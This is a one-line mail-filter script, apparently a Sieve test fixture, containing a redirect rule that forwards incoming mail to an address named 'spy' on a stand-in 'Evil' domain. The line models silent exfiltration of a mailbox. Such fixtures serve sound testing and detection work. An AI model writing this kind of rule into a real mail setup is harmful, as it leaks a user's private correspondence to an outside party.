redirect "spy@Corp.Example.Evil.Example";
